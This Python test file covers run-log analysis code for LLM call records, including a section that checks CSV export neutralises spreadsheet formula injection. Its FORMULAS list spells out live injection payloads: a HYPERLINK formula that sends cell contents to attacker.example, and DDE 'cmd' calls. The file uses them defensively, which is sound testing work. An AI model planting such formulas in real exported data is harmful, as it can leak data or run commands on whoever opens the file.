import csv
import io

import pandas as pd
import pytest

from lib.analysis.runlog import calls_frame, csv_cell, csv_safe, csv_text, filtered, run_log_figures
from lib.core.outcome import Usage
from lib.store.storage import CallRecord

T0 = "2026-01-01T10:00:00.000+00:00"


def _record(session_id="s1", variant="chat", predicted=100, reported=98, status="ok", at=T0):
    return CallRecord(
        session_id,
        variant,
        "embedded",
        "SmolLM2-135M-Instruct",
        3,
        predicted,
        True,
        Usage(reported, None if reported is None else 7),
        500,
        0.4,
        0.1,
        0.0,
        status,
        None if status == "ok" else "boom",
        at,
    )


RECORDS = [
    _record(),
    _record("s2", "Last 2 turns", 60, None, "error", "2026-01-01T10:01:00.000+00:00"),
    _record("gone", "chat", 140, 140, at="2026-01-01T10:02:00.000+00:00"),
]


def test_the_frame_has_a_row_per_call_with_session_names():
    frame = calls_frame(RECORDS, {"s1": "Foxes", "s2": "Cats"})
    assert list(frame["session"]) == ["Foxes", "Cats", "gone"]  # a deleted session shows its id
    assert frame.loc[1, "prompt tokens"] is pd.NA and frame.loc[0, "prompt tokens"] == 98
    assert frame["time"].is_monotonic_increasing and str(frame["time"].dtype).startswith("datetime64")
    assert {"predicted prompt tokens", "payload bytes", "latency s", "ttft s", "cost $", "error"} <= set(frame)
    assert calls_frame([]).empty


def test_filters_keep_the_chosen_values_and_empty_means_all():
    frame = calls_frame(RECORDS)
    assert list(filtered(frame, variant=["chat"])["session id"]) == ["s1", "gone"]
    assert list(filtered(frame, variant=["chat"], status=["error"])["session id"]) == []
    assert len(filtered(frame, variant=[], session=[])) == 3


def test_the_charts_plot_every_call_and_the_exact_line():
    over_time, scatter = run_log_figures(calls_frame(RECORDS))
    assert sum(len(trace.y) for trace in over_time.data) == 3  # the failed call plots its prediction
    assert sorted(y for trace in scatter.data for y in trace.y) == [98, 140]  # only calls with reported usage
    assert scatter.layout.shapes[0].x1 == scatter.layout.shapes[0].y1 == 140


# --- CSV a spreadsheet opens: no cell runs as a formula ------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://attacker.example/?q="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1dHYPERLINK(1)",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_quoted(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "a = b", "x-1", "", "'already", 5, -2.5, None])
def test_other_cells_are_left_as_they_are(value):
    assert csv_cell(value) == value


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_run_log_csv_writes_no_formula():
    records = [_record(), _record("s2", at="2026-01-01T10:01:00.000+00:00")]
    hostile = [
        CallRecord(**{**r.__dict__, "model": FORMULAS[0], "error": FORMULAS[1], "variant": FORMULAS[4]})
        for r in records
    ]
    frame = calls_frame(hostile, {"s1": FORMULAS[2], "s2": FORMULAS[3]})
    rows = _cells(csv_text(frame))
    header, body = rows[0], rows[1:]
    assert header == list(frame.columns)
    cells = [cell for row in body for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[2] in cells  # kept, as text
    assert body[0][header.index("predicted prompt tokens")] == "100"  # numbers stay numbers


def test_csv_safe_keeps_numbers_and_the_frame_it_was_given():
    frame = pd.DataFrame({"strategy": ["-full", "last"], "tokens": [-3, 4], "share": [-0.5, 0.25]})
    safe = csv_safe(frame)
    assert list(safe["strategy"]) == ["'-full", "last"] and list(frame["strategy"]) == ["-full", "last"]
    assert list(safe["tokens"]) == [-3, 4] and list(safe["share"]) == [-0.5, 0.25]
    assert csv_text(frame).splitlines() == ["strategy,tokens,share", "'-full,-3,-0.5", "last,4,0.25"]


# --- read back from the store, on both backends ----------------------------------------------------


def test_the_run_log_read_back_from_either_store_frames_as_it_was_logged(store):
    from lib.store import storage

    with storage.opened() as conn:
        for record in RECORDS:
            storage.record_call(conn, record)
        read_back = storage.calls(conn)
    assert read_back == RECORDS
    assert {type(r.predicted_exact) for r in read_back} == {bool} and {type(r.cost) for r in read_back} == {float}
    frame, expected = calls_frame(read_back, {"s1": "Foxes"}), calls_frame(RECORDS, {"s1": "Foxes"})
    pd.testing.assert_frame_equal(frame, expected)
    assert csv_text(frame) == csv_text(expected)
